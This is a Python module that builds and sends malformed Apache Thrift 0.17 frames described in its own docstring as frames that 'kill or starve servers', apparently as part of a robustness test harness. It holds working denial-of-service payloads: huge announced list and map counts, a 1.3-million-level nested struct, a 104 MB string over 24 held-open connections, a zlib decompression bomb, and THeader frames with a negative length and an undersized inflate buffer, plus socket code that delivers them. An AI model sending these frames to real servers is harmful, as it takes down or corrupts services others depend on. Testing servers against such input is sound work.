"""Frames that kill or starve servers of Apache Thrift 0.17 (the oldest library still in distributions) and how to send them."""
import dataclasses
import socket
import struct
import time
import zlib

CALL = 1
STRUCT, LIST, MAP, STRING = 12, 15, 13, 11
ITEM_STOP = b"\0" * 64  # enough empty structs that a reader has something to go on with
MAP_OF_I32_TO_STRING = bytes([8, STRING])


@dataclasses.dataclass(frozen=True)
class Frame:
    name: str
    dialect: str  # of the providers that it is sent to
    data: bytes
    connections: int = 1  # how many send it at once
    languages: tuple = ("cpp", "go")


def call(method, arguments):
    """A message of the binary protocol."""
    return struct.pack(">II", 0x80010000 | CALL, len(method)) + method.encode() + struct.pack(">i", 7) + arguments


def field(kind, number):
    return struct.pack(">bh", kind, number)


def framed(message):
    return struct.pack(">I", len(message)) + message


def header(message, transforms=b"", info=b""):
    """A THeader frame of the binary protocol; transforms and info as they lie on the wire."""
    words = bytes([0, len(transforms)]) + transforms + info
    words += b"\0" * (-len(words) % 4)
    return framed(struct.pack(">HHIH", 0x0FFF, 0, 7, len(words) // 4) + words + message)


def request_with(method, number, kind, value):
    """A call whose one struct has this one field."""
    return call(method, field(STRUCT, 1) + field(kind, number) + value + b"\0\0")


def greet():
    """The valid call that must still be answered afterwards."""
    return framed(call("greet", b"\0"))


def compact_list(count):
    """lists(request) in the compact protocol, its `items` with this count."""
    size = b""
    while count > 127:
        size += bytes([count & 127 | 128])
        count >>= 7
    return b"\x82\x21\x07\x05lists" + b"\x1c" + b"\x99\xfc" + size + bytes([count]) + ITEM_STOP


def frames():
    deep = 1_300_000  # levels of struct in struct: 3.9 MB, below every limit of size
    long_text = request_with("payload", 2, STRING, struct.pack(">i", 104_000_000))
    zeros = zlib.compressobj(9)
    bomb = zeros.compress(long_text[:-2])
    for _ in range(104):
        bomb += zeros.compress(b"\0" * 1_000_000)
    bomb += zeros.flush(zlib.Z_SYNC_FLUSH)
    return [
        Frame("list<struct> of 2,147,483,647 elements", "framed-binary",
              framed(request_with("lists", 9, LIST, struct.pack(">bi", STRUCT, 0x7FFFFFFF) + ITEM_STOP))),
        Frame("the same in the compact protocol", "framed-compact", framed(compact_list(0x7FFFFFFF))),
        Frame("list<list> of 100,000,000 elements", "framed-binary",
              framed(request_with("lists", 10, LIST, struct.pack(">bi", LIST, 100_000_000) + ITEM_STOP))),
        Frame("map of 100,000,000 entries", "framed-binary",
              framed(request_with("maps", 2, MAP, MAP_OF_I32_TO_STRING + struct.pack(">i", 100_000_000) + ITEM_STOP))),
        Frame("struct in struct, 1,300,000 deep", "framed-binary",
              framed(call("grow", field(STRUCT, 1) + field(STRUCT, 4) * deep))),
        Frame("text of 104,000,000 bytes announced on 24 connections", "unframed-binary", long_text[:-2], 24),
        Frame("the same compressed to 100 kB, and sent", "unframed-binary-zlib", bomb, 24),
        Frame("header with a negative text length", "header-binary",
              header(call("greet", b"\0"), info=b"\x01\x01\xff\xff\xff\xff\x0f" + b"x" * 9)),
        # Honest, but for its transform: the library inflates into one buffer and copies it into another, smaller one.
        Frame("header whose 62 bytes inflate to 931", "header-binary",
              header(zlib.compress(request_with("payload", 2, STRING, struct.pack(">i", 900) + b"x" * 900), 9), transforms=b"\x01")),
    ]


def send(address, frame, wait_s):
    """Sends the frame on all its connections; what came back on the first: bytes, b"" when it was closed, None for silence.

    All connections stay open until the time is over, as a stubborn caller's would."""
    host, port = address.rsplit(":", 1)
    sockets = []
    first = None
    try:
        for _ in range(frame.connections):
            try:
                one = socket.create_connection((host, int(port)), timeout=wait_s)
                sockets.append(one)
                one.sendall(frame.data)
            except OSError:
                break  # it is gone already
        end = time.monotonic() + wait_s
        if not sockets:
            return b""
        received = b""
        while time.monotonic() < end:
            sockets[0].settimeout(max(0.01, end - time.monotonic()))
            try:
                part = sockets[0].recv(65536)
            except TimeoutError:
                break
            except OSError:
                part = b""
            if not part:
                first = received
                break
            received += part
            first = received
            end = min(end, time.monotonic() + 0.3)
        return first
    finally:
        for one in sockets:
            one.close()


def ask(address, message, limit_s=10):
    """Sends one message and returns what comes back until it holds the greeting, or the time is over."""
    host, port = address.rsplit(":", 1)
    received = b""
    try:
        with socket.create_connection((host, int(port)), timeout=limit_s) as one:
            one.sendall(message)
            end = time.monotonic() + limit_s
            while b"hello from the provider" not in received and time.monotonic() < end:
                one.settimeout(max(0.01, end - time.monotonic()))
                part = one.recv(65536)
                if not part:
                    break
                received += part
    except OSError:
        pass
    return received
